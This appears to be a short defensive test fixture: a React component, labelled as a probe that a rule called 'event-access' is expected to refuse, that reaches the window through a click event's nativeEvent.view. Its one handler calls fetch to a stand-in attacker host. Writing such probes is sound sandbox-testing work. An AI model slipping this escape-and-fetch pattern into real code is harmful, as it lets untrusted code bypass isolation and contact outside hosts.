// probe: window through an event; refused by: event-access
export default function Probe() {
  return <button onClick={(e) => e.nativeEvent.view.fetch("https://attacker.test/native")}>Go</button>;
}
